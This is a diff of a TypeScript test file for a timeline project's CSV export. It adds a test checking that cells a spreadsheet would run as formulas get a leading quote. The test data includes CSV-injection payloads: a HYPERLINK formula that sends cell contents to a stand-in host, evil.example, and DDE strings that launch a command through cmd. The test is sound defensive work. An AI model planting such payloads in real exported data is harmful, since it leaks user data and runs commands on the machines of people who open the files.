@@ -1,19 +1,26 @@
 import { csvParse } from 'd3-dsv';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { CSV_LIST_SEPARATOR, toEventsCsv, toEventsJson, type EventRecord } from '../../../src/lib/export/index.ts';
+import {
+  CSV_LIST_SEPARATOR,
+  fromSpreadsheetSafe,
+  toEventsCsv,
+  toEventsJson,
+  type EventRecord,
+} from '../../../src/lib/export/index.ts';
 import { loadTimeline } from '../../../src/lib/load/index.ts';
 import type { Stance, Timeline } from '../../../src/lib/timeline-model.ts';
 
 const SITE_URL = 'https://example.org/timeline/';
 
-// Reads events.csv back as a researcher would, rebuilding events.json's records from the documented columns.
+// Reads events.csv back as a researcher would, rebuilding events.json's records from the documented columns, and
+// dropping the documented quote before a cell that would start a formula.
 function fromCsv(text: string): EventRecord[] {
   const list = (cell: string) => (cell === '' ? [] : cell.split(CSV_LIST_SEPARATOR));
   return csvParse(text).map((row) => {
     const cell = (column: string) => {
       const value = row[column];
       if (value === undefined) throw new Error(`no column ${column}`);
-      return value;
+      return fromSpreadsheetSafe(value);
     };
     const count = Number(cell('citation_count'));
     return {
@@ -84,5 +91,37 @@ describe('toEventsCsv()', () => {
     expect(csv.split('\r\n')[0]).toMatch(/^id,url,title,date_edtf,/);
     // The council vote's quote has straight double quotes: "new".
     expect(csv).toContain('"The town council on Tuesday approved the ""new"" harbour bridge"');
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula with a leading quote, and still parses back', () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      'Plain, "quoted" text with = inside',
+    ];
+    const pick = (i: number) => hostile[i % hostile.length]!;
+    const timeline: Timeline = {
+      ...small,
+      events: small.events.map((event, i) => ({
+        ...event,
+        title: pick(i),
+        actors: [pick(i + 1), 'Council'],
+        places: [pick(i + 2)],
+        summary: pick(i + 3),
+        citations: event.citations.map((citation, c) => ({ ...citation, claimant: pick(i + c + 4) })),
+      })),
+    };
+    const csv = toEventsCsv(timeline, { siteUrl: SITE_URL });
+    const rows = csvParse(csv);
+    const cells = rows.flatMap((row) => rows.columns.map((column) => row[column]!));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${hostile[0]}`);
+    expect(cells).toContain(`'${hostile[4]}`);
+    expect(cells).toContain(hostile[6]);
+    expect(fromCsv(csv)).toEqual(toEventsJson(timeline, { siteUrl: SITE_URL }).events);
   });
 });
